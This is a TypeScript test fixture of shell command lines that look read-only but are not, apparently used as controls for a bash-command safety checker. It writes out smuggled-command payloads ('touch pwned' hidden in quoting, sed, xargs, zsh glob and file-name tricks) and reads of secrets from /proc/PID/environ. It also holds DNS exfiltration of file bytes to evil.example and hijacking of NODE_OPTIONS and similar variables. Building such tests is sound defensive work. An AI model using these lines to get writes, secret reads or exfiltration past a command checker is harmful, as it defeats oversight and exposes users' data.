/**
 * Lines that looked read-only and were not, by class, at least ten spellings each.
 *
 * Each is a control as well: run in the fixture it shows its effect, which proves that the harness would see it.
 */
// biome-ignore-all lint/style/noExcessiveLinesPerFile: one table, which is read from top to bottom
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the braces are shell text
import { singleQuoted } from "@pi-bash/command/internal";
import { type Case, VICTIM } from "./case.ts";

/** A class of lines. */
export interface ControlClass {
  readonly title: string;
  readonly cases: readonly Case[];
}

const plain = (...lines: readonly string[]): Case[] => lines.map((line) => ({ line }));
const withInput = (stdin: string, ...lines: readonly string[]): Case[] => lines.map((line) => ({ line, stdin }));
const withFiles = (files: readonly string[], ...lines: readonly string[]): Case[] =>
  lines.map((line) => ({ line, files }));
const withValue = (value: string, ...lines: readonly string[]): Case[] =>
  lines.map((line) => ({ line, env: { F: value } }));

/** bash reads one quoted string, dash a string, a command and a comment. */
const DASH_TEXT = singleQuoted(String.raw`echo $'\'; touch pwned; #'`);
/** bash ends the document at `E`, dash at `$E`. */
const DASH_DOCUMENT = singleQuoted("cat <<$'E'\n$E\ntouch pwned\nE\n");
const ZSH_GLOB = `'ls *(e:"touch pwned":)'`;
const HOSTILE_NAME = ["a;touch pwned", "list"];
const AWK_NAME = ['BEGIN{system("touch pwned")}', "one"];
const SED_NAME = ["1w pwned", "one"];

/** The classes, in the order in which they were found. */
export const CONTROL_CLASSES: readonly ControlClass[] = [
  {
    title: "a text for another shell, read as bash would",
    cases: [
      ...plain(
        `sh -c ${DASH_TEXT}`,
        `dash -c ${DASH_TEXT}`,
        `/bin/sh -c ${DASH_TEXT}`,
        `/usr/bin/dash -c ${DASH_TEXT}`,
        `timeout 5 sh -c ${DASH_TEXT}`,
        `find . -maxdepth 0 -exec sh -c ${DASH_TEXT} \\;`,
        `env sh -c ${DASH_TEXT}`,
        `nice dash -ec ${DASH_TEXT}`,
        `xargs sh -c ${DASH_TEXT} < /dev/null`,
        `sh -c "echo \\$'\\\\'; touch pwned; #'"`,
        `sh -c ${DASH_DOCUMENT}`,
        `timeout 5 dash -c ${DASH_DOCUMENT}`,
        `bash -c ${singleQuoted(`sh -c ${DASH_TEXT}`)}`,
      ),
    ],
  },
  {
    title: "the value of a long option that is not known",
    cases: [
      ...plain(
        'sed --expression="$(echo 1e touch pwned)" README.md',
        'sed --expression="1$(echo e touch pwned)" README.md',
        'sed --expression="`echo 1w pwned`" README.md',
        'sed -n --expression="$(cat README.md | tail -1 | sed s/^/1e/)" README.md',
      ),
      ...withValue(
        "1e touch pwned",
        'sed --expression="$F" README.md',
        'sed --expression="${F}" README.md',
        'sed -n --expression="$F" README.md',
        'sed --expression=p --expression="$F" README.md',
        'sed --quiet --expression="$F" README.md',
        'timeout 5 sed --expression="$F" README.md',
        'sed README.md --expression="$F"',
        'sed --expression="${F:-p}" README.md',
      ),
    ],
  },
  {
    title: "several placeholders of xargs",
    cases: withInput(
      "x;touch pwned\n",
      "xargs -I A -I B sh -c 'echo B'",
      "xargs -E -IC -I B sh -c 'echo B'",
      "xargs -I A --replace=B sh -c 'echo B'",
      "xargs -I A -iB sh -c 'echo B'",
      "xargs -IA -IB bash -c 'echo B'",
      "xargs --replace=A -I B sh -c 'echo B'",
      "xargs -n1 -I A -I B sh -c 'echo B'",
      "xargs -d '\\n' -I A -I B sh -c 'echo B'",
      "timeout 5 xargs -I A -I B sh -c 'echo B'",
      "cat | xargs -I A -I B sh -c 'echo B'",
      "xargs -I A -I B find src -maxdepth 0 -exec sh -c 'echo B' \\;",
      "xargs -rI A -rI B dash -c 'echo B'",
    ),
  },
  {
    title: "a placeholder of find inside the words of xargs",
    cases: withFiles(
      HOSTILE_NAME,
      "find . -type f -exec xargs -a list -I X sh -c 'echo {}' \\;",
      "find * -exec xargs -a list -I X sh -c 'echo {}' \\;",
      "find . -type f -execdir xargs -a list -I X sh -c 'echo {}' \\;",
      "find . -type f -exec xargs -a list -IX bash -c 'echo {}' \\;",
      "find . -type f -exec nice xargs -a list -I X sh -c 'echo {}' \\;",
      "find . -type f -exec xargs -a list sh -c 'echo {}' \\;",
      "find . -type f -exec xargs -a list --replace=X sh -c 'echo {}' \\;",
      "find . -type f -exec timeout 5 xargs -a list -I X sh -c 'echo {}' \\;",
      "find . -name 'a*' -exec xargs -a list -I X nice sh -c 'echo {}' \\;",
      "find . -type f -exec xargs -a list -n1 -I X sh -c 'cat {}' \\;",
      "find . -type f -exec xargs -I X -a list sh -c ': {}' \\;",
    ),
  },
  {
    title: "a placeholder before `--`",
    cases: [
      ...withInput(
        "-opwned\n",
        "xargs -I X sort X -- README.md",
        "xargs -I{} sort -n {} -- README.md",
        "xargs -I X shuf X -- README.md",
        "xargs --replace=X sort X -- README.md",
        "xargs -iX nice sort X -- README.md",
      ),
      ...withInput("--pre=./evil\n", "xargs -I X rg X foo -- README.md", "xargs -I X rg -n X -e foo -- README.md"),
      ...withInput(
        "--output=pwned\n",
        "xargs -I X git log X -1 -p --",
        "xargs -I X git diff X HEAD~1 --",
        "xargs -I X git show X HEAD -- .",
      ),
      ...withInput("-O./evil\n", "xargs -I X git grep X foo -- ."),
      ...withInput("a/b/\nw pwned\ns/a", "xargs -0 -I X sed -e 's/X/b/p' README.md"),
    ],
  },
  {
    title: "words that xargs appends behind another wrapper",
    cases: [
      ...withInput("-delete\n", "xargs nice find src", "xargs timeout 5 find src", "xargs env find src"),
      ...withInput(
        "-opwned\n",
        "xargs nice sort README.md",
        "xargs stdbuf -oL sort README.md",
        "xargs setsid -w sort README.md",
        "xargs xargs sort README.md",
        "xargs nice nice shuf README.md",
        "xargs taskset 1 sort README.md",
      ),
      ...withInput("--pre=./evil\n", "xargs nice rg foo README.md"),
      ...withInput("--output=pwned\n", "xargs nice git log -1 -p"),
      ...withInput("of=pwned\n", "xargs nice dd if=README.md"),
      ...withInput("pwned\n", "xargs nice tee", "xargs nice xxd README.md"),
      ...withInput("--set=now\n", "xargs nice date"),
    ],
  },
  {
    title: "a placeholder as the text of a program",
    cases: [
      ...withFiles(
        AWK_NAME,
        "find BEGIN* -exec awk {} \\;",
        "find BEGIN* -exec gawk {} one \\;",
        "find BEGIN* -exec nice awk {} \\;",
        "find BEGIN* -exec awk -F: {} one \\;",
        "ls BEGIN* | xargs -d '\\n' -I{} awk {} one",
        "ls BEGIN* | xargs -d '\\n' awk",
        'for f in BEGIN*; do awk "$f"; done',
      ),
      ...withFiles(
        SED_NAME,
        "find 1* -exec sed -n {} one \\;",
        "find 1* -exec sed -e {} one \\;",
        "find 1* -type f -exec timeout 5 sed {} one \\;",
        "ls 1* | xargs -d '\\n' -I X sed X one",
        "ls 1* | xargs -d '\\n' -I X sed -e X -- one",
      ),
    ],
  },
  {
    title: "git in another folder",
    cases: plain(
      "find . -name .git -prune -execdir git status \\;",
      "find vendor -name f.txt -execdir git status \\;",
      "find . -name f.txt -execdir git diff \\;",
      "find . -name f.txt -execdir nice git status \\;",
      "find . -name f.txt -execdir timeout 5 git diff HEAD \\;",
      "find . -name f.txt -execdir sh -c 'git status' \\;",
      "find . -name .git -prune -execdir env git status \\;",
      "find . -name f.txt -execdir git status {} +",
      "cd vendor/dep && git status",
      "(cd vendor/dep; git diff)",
      "pushd vendor/dep; git status",
      "bash -c 'cd vendor/dep; git status'",
    ),
  },
  {
    title: "a cluster with `x` of fd",
    cases: plain(
      "fd . -0x touch pwned",
      "fd . -1x touch pwned",
      "fd . -HI0x touch pwned",
      "fd . -0X touch pwned",
      "fd . -u0x touch pwned",
      "fd . -a0x touch pwned",
      "fd . -L1x touch pwned",
      "fd . -i0X touch pwned",
      "fd -F . -0x touch pwned",
      "fd . src -p0x touch pwned",
      "timeout 5 fd . -0x touch pwned",
    ),
  },
  {
    title: "what only zsh does",
    cases: plain(
      `zsh -c ${ZSH_GLOB}`,
      `/bin/zsh -c ${ZSH_GLOB}`,
      `timeout 5 zsh -c ${ZSH_GLOB}`,
      `env zsh -c ${ZSH_GLOB}`,
      `find . -maxdepth 0 -exec zsh -c ${ZSH_GLOB} \\;`,
      `nice zsh -ec ${ZSH_GLOB}`,
      "zsh -c 'ls *(e#touch pwned#)'",
      "zsh -c 'echo *(oe:\"touch pwned\":)'",
      "zsh -c 'cat *(e{touch pwned})'",
      "zsh -c 'cat =(touch pwned)'",
      `sh -c ${singleQuoted(`zsh -c ${ZSH_GLOB}`)}`,
    ),
  },
  {
    title: "a subcommand that is not known",
    cases: [
      ...plain(
        'systemctl "st$(echo op)" u',
        'systemctl --no-pager "re$(echo start)" u',
        'systemctl "`echo stop`" u',
        'ip link "s$(echo et)" lo down',
        'ip -br link "s$(echo et)" dev0 down',
        'ip addr "a$(echo dd)" 10.9.9.9/8 dev lo',
        'timeout 5 ip l "s$(echo et)" lo down',
      ),
      ...withValue("stop", 'systemctl "$F" u', 'systemctl -q "$F" u', 'systemctl "${F}" u'),
      ...withValue("set", 'ip link "$F" lo down', 'ip l "${F}" lo down'),
    ],
  },
  {
    title: "a second signal of kill",
    cases: [
      "kill -0 -s KILL PID",
      "kill -0 -s USR1 PID",
      "kill -0 -n 10 PID",
      "kill -n 0 -s TERM PID",
      "kill -s 0 -s USR1 PID",
      "/bin/kill -0 -s USR1 PID",
      "/bin/kill -0 --signal USR1 PID",
      "env kill -0 -s USR1 PID",
      "nice kill -0 -s USR1 PID",
      "command kill -0 -s USR1 PID",
      "builtin kill -n 0 -s USR1 PID",
      "timeout 5 kill -0 -s USR1 PID",
      "kill -sUSR1 PID",
    ].map((line) => ({ line: line.replace("PID", VICTIM) })),
  },
  {
    title: "the environment of another process",
    cases: [
      "grep -aoz 'SECRET=.*' /proc/PID/envir?n",
      "find /proc/PID -maxdepth 1 -name environ -exec grep -az SECRET {} +",
      "cat /proc/PID/e??????",
      "cat /proc/PID/{environ,comm}",
      "cat /proc/PID/[e]nviron",
      "cat /proc/*/environ",
      "cd /proc/PID; cat environ",
      "cd /proc/PID && grep -az SECRET env*",
      "echo environ | xargs -I{} cat /proc/PID/{}",
      "ls -d /proc/PID/e* | xargs cat",
      "for f in environ; do cat /proc/PID/$f; done",
      "grep -rasz SECRET /proc/PID --include='env*'",
      "cat < /proc/PID/env*",
      "find /proc/PID -maxdepth 1 -type f | grep -v -e pagemap -e mem | xargs head -qc 400",
      "cat /pro?/PID/environ",
    ].map((line) => ({ line: line.replaceAll("PID", VICTIM) })),
  },
  {
    title: "a key of git's configuration that becomes two words",
    cases: [
      ...plain(
        "git config core.x*",
        "git config core.x?",
        "git config core.x[12]",
        "git config core.{x1,x2}",
        "git config core.*",
        "git config --local core.x*",
        "git --no-pager config core.x*",
        "timeout 5 git config core.x*",
        "git config $(echo core.y z)",
        "git config core.$(echo y z)",
      ),
      ...withValue("core.y z", "git config $F", "git config ${F}"),
      ...withValue("y z", "git config core.$F"),
    ],
  },
  {
    title: "the second operand of xxd",
    cases: plain(
      "xxd -col README.md pwned",
      "xxd -cols 4 README.md pwned",
      "xxd -len 4 README.md pwned",
      "xxd -seek 0 README.md pwned",
      "xxd -c4 README.md pwned",
      "xxd -ps README.md pwned",
      "xxd -plain README.md pwned",
      "xxd -g 1 -l 4 README.md pwned",
      "xxd -i README.md pwned",
      "xxd -u -- README.md pwned",
      "xxd -r evil pwned",
      "timeout 5 xxd -col README.md pwned",
    ),
  },
  {
    title: "names that leave the machine",
    cases: [
      ...plain(
        'ss dst "x$(head -c 1 README.md | tr -d \\#).evil.example"',
        "ss dst x.evil.example",
        "ss src x.evil.example",
        "ss -tn dst x.evil.example",
        'tar -t --file="$(echo h.evil.example:x)"',
        'tar --list --file="`echo h.evil.example:x`"',
        "tar -tf h.evil.example:x",
        "hostname -A",
        "hostname --all-fqdns",
        "who --lookup",
      ),
      ...withValue("h.evil.example:x", 'tar -t --file="$F"', 'tar --list --file="$F"', 'tar -tf "$F"'),
    ],
  },
  {
    title: "a loop over a variable that programs obey",
    cases: plain(
      ...[
        "JAVA_HOME",
        "HOME",
        "CDPATH",
        "EDITOR",
        "NODE_OPTIONS",
        "PYTHONPATH",
        "CC",
        "MAKEFLAGS",
        "RUBYOPT",
        "TMPDIR",
        "GOFLAGS",
      ].map((name) => `for ${name} in /evil; do :; done`),
      "while read -r JAVA_HOME; do :; done < README.md",
      "for GIT_EXTERNAL_DIFF in ./evil; do ls; done",
    ),
  },
];
